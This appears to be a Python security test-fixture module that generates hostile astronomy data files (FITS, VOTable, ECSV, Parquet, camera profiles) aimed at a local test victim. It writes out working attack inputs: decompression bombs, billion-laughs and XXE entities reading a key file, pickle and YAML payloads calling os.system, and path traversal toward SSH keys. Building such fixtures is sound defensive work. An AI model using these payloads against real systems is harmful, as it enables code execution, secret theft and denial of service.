"""Files as somebody hostile would send them: tables, frames, profiles and coverage maps."""

from __future__ import annotations

import bz2
import gzip
import os
import pickle
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
from hostile.hostile_lakes import Victim

#: What a bomb unpacks to, in bytes.
_BOMB = 8_000_000_000


def _cards(*cards: tuple[str, object]) -> bytes:
    """Return a FITS header as a block of 2,880 bytes."""
    texts = []
    for key, value in cards:
        text = f"'{value}'" if isinstance(value, str) else ("T" if value is True else str(value))
        texts.append(f"{key:<8}= {text:>20}".ljust(80))
    header = "".join(texts) + "END".ljust(80)
    return header.ljust(-(-len(header) // 2880) * 2880).encode("ascii")


_PRIMARY = _cards(("SIMPLE", True), ("BITPIX", 8), ("NAXIS", 0))


def _table_header(columns: tuple[tuple[str, str], ...], width: int, rows: int) -> bytes:
    names = [(f"TTYPE{i}", name) for i, (name, _) in enumerate(columns, 1)]
    forms = [(f"TFORM{i}", form) for i, (_, form) in enumerate(columns, 1)]
    return _PRIMARY + _cards(
        ("XTENSION", "BINTABLE"), ("BITPIX", 8), ("NAXIS", 2), ("NAXIS1", width), ("NAXIS2", rows), ("PCOUNT", 0),
        ("GCOUNT", 1), ("TFIELDS", len(columns)), *names, *forms,
    )  # fmt: skip


def _gzip_bomb(head: bytes, body: bytes) -> bytes:
    """Return a head and a body that is repeated up to the size of the bomb, packed."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = body * (16_000_000 // len(body))
    packed = [packer.compress(head)]
    for _ in range(_BOMB // len(block)):
        packed.append(packer.compress(block))
    return b"".join([*packed, packer.flush()])


def _parquet_bomb(path: Path) -> None:
    """Write a table of two hundred million equal stars, which take no space in the file."""
    rows = 5_000_000
    table = pa.table(
        {"ra": np.full(rows, 200.0), "dec": np.full(rows, -10.0), "name": pa.array(["x" * 40] * rows)}
    )
    with pq.ParquetWriter(path, table.schema, compression="zstd") as writer:
        for _ in range(40):
            writer.write_table(table, row_group_size=rows)


class _Runs:
    """What a pickle of the attacker would run."""

    def __init__(self, note: Path) -> None:
        self.note = note

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (f"touch {self.note}",)


def _pickled_array(note: Path) -> bytes:
    """Return an array of objects, as numpy writes them."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00v\x00" + header + pickle.dumps(np.array([_Runs(note)], object))


def _votable(inside: str, doctype: str = "") -> str:
    return (
        f'<?xml version="1.0"?>{doctype}<VOTABLE version="1.4" xmlns="http://www.ivoa.net/xml/VOTable/v1.3"><RESOURCE>'
        '<TABLE><FIELD name="ra" datatype="double" unit="deg"/><FIELD name="dec" datatype="double" unit="deg"/>'
        f"<FIELD name='name' datatype='char' arraysize='*'/><DATA>{inside}</DATA></TABLE></RESOURCE></VOTABLE>\n"
    )


def make_tables(folder: Path, victim: Victim, note: Path) -> list[Path]:
    """Write tables of stars that attack who reads them, and return their paths."""
    folder.mkdir()
    server = f"http://127.0.0.1:{victim.port}"
    laughs = '<!DOCTYPE VOTABLE [<!ENTITY a "' + "ha" * 500 + '">' + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 100}">' for before, name in zip("abcde", "bcdef", strict=True)
    ) + "]>"  # fmt: skip
    row = "<TABLEDATA><TR><TD>200</TD><TD>-10</TD><TD>{}</TD></TR></TABLEDATA>"
    texts = {
        "stream.vot": _votable(f'<BINARY><STREAM href="{server}/rows" encoding="base64"/></BINARY>'),
        "stream-file.vot": _votable(f'<FITS><STREAM href="file://{victim.key}"/></FITS>'),
        "external.vot": _votable(
            row.format("&key;"), f'<!DOCTYPE V [<!ENTITY key SYSTEM "file://{victim.key}">]>'
        ),
        "external-server.vot": _votable(row.format("a"), f'<!DOCTYPE V SYSTEM "{server}/votable.dtd">'),
        "laughs.vot": _votable(row.format("&f;"), laughs),
        "python.ecsv": "# %ECSV 1.0\n# ---\n# datatype: !!python/object/apply:os.system ['touch "
        f"{note}']\nra dec\n200.0 -10.0\n",
        "wide.ecsv": "# %ECSV 1.0\n# ---\n# datatype:\n# - {name: ra, datatype: float64}\n"
        "# - {name: dec, datatype: float64}\n# meta: &a [1,1,1,1,1,1,1,1]\nra dec\n200.0 -10.0\n",
        "long-line.csv": "ra,dec\n" + "2" * 300_000_000,
        "many-columns.csv": ",".join(f"c{i}" for i in range(300_000)) + ",ra,dec\n",
        "nul.csv": "ra,dec\n200\0,-10\n",
        "list.json": "[" * 200_000,
        "names.txt": f"file://{victim.key}\n{server}/star\n../../home/keys/id_ed25519\n",
    }
    for name, text in texts.items():
        (folder / name).write_text(text)
    binaries = {
        "huge-field.fits": _table_header((("ra", "999999999D"), ("dec", "D")), 16, 1) + b"\0" * 2880,
        "huge-rows.fits": _table_header((("ra", "D"), ("dec", "D")), 16, 10**12) + b"\0" * 2880,
        "negative-rows.fits": _table_header((("ra", "D"), ("dec", "D")), 16, -5) + b"\0" * 2880,
        "pointer.fits": _table_header((("ra", "D"), ("dec", "1PD(2000000000)")), 16, 1) + b"\x7f" * 2880,
        "bomb.csv.gz": _gzip_bomb(b"ra,dec\n", b"200.0,-10.0\n"),
        "bomb.fits.gz": _gzip_bomb(_table_header((("ra", "D"), ("dec", "D")), 16, _BOMB // 16), b"\0" * 2880),
        "bomb.vot.gz": _gzip_bomb(
            _votable("<TABLEDATA>").split("</DATA>")[0].encode(), b"<TR><TD>200</TD><TD>1</TD></TR>"
        ),
        "pickle.npy": _pickled_array(note),
        "pickle.parquet": pickle.dumps(_Runs(note)),
        "cut.parquet": b"PAR1" + b"\xff" * 100 + b"\xff\xff\xff\x7fPAR1",
    }  # fmt: skip
    for name, content in binaries.items():
        (folder / name).write_bytes(content)
    _parquet_bomb(folder / "bomb.parquet")
    os.mkfifo(folder / "pipe.csv")
    (folder / "key.csv").symlink_to(folder / "key.csv")
    return sorted(folder.iterdir())


def make_frames(folder: Path) -> list[Path]:
    """Write frames that attack who reads them, and return their paths."""
    folder.mkdir()
    image = ("SIMPLE", True), ("BITPIX", -32), ("NAXIS", 2)
    binaries = {
        "huge.fits": _cards(*image, ("NAXIS1", 2_000_000_000), ("NAXIS2", 2_000_000_000)) + b"\0" * 2880,
        "wide.fits": _cards(*image, ("NAXIS1", 40_000), ("NAXIS2", 40_000)) + b"\0" * 2880,
        "negative.fits": _cards(*image, ("NAXIS1", -600), ("NAXIS2", 500)) + b"\0" * 2880,
        "axes.fits": _cards(("SIMPLE", True), ("BITPIX", 8), ("NAXIS", 999)) + b"\0" * 2880,
        "no-end.fits": (_cards(*image)[:160] + b" " * 2720) * 4000,
        "bomb.fits.gz": _gzip_bomb(_cards(*image, ("NAXIS1", 44_000), ("NAXIS2", 44_000)), b"\0" * 2880),
        "bomb.fits.bz2": bz2.compress(_cards(*image, ("NAXIS1", 15_000), ("NAXIS2", 15_000)) + bytes(900_000_000)),
        "gzip-in-gzip.fits.gz": gzip.compress(gzip.compress(_cards(*image, ("NAXIS1", 10), ("NAXIS2", 10)))),
        "tiles.fits": _PRIMARY + _cards(
            ("XTENSION", "BINTABLE"), ("BITPIX", 8), ("NAXIS", 2), ("NAXIS1", 8), ("NAXIS2", 1), ("PCOUNT", 100),
            ("GCOUNT", 1), ("TFIELDS", 1), ("TTYPE1", "COMPRESSED_DATA"), ("TFORM1", "1PB(99)"), ("ZIMAGE", True),
            ("ZCMPTYPE", "RICE_1"), ("ZBITPIX", 16), ("ZNAXIS", 2), ("ZNAXIS1", 60_000), ("ZNAXIS2", 60_000),
            ("ZTILE1", 60_000), ("ZTILE2", 60_000),
        ) + b"\0\0\0\x60\0\0\0\0" + b"\xff" * 2872,
    }  # fmt: skip
    for name, content in binaries.items():
        (folder / name).write_bytes(content)
    os.mkfifo(folder / "pipe.fits")
    (folder / "loop").symlink_to(folder)
    return sorted(path for path in folder.iterdir() if path.name != "loop")


def make_profiles(folder: Path, victim: Victim) -> list[Path]:
    """Write camera profiles that attack who uses them, and return their paths."""
    folder.mkdir()
    server = f"http://127.0.0.1:{victim.port}"
    texts = {
        "name.toml": 'like = "sim"\nname = "../../home/documents/sim"\n',
        "like-key.toml": f'like = "{victim.key}"\nname = "a"\n',
        "like-server.toml": f'like = "{server}/sim.toml"\nname = "a"\n',
        "like-itself.toml": f'like = "{folder}/like-itself.toml"\nname = "a"\n',
        "sky.toml": f'like = "sim"\nname = "a"\nreduction.sky.file = "{victim.key}"\n',
        "catalog.toml": 'like = "sim"\nname = "a"\n[catalog]\nsolve = "../../home/documents"\n'
        f'calibrate = "{server}"\n',
        "size.toml": 'like = "sim"\nname = "a"\ndetector.width_px = 2000000000\ndetector.height_px = 2000000000\n',
        "deep.toml": 'name = "a"\nx = ' + "[" * 50_000,
    }
    for name, text in texts.items():
        (folder / name).write_text(text)
    return sorted(folder.iterdir())
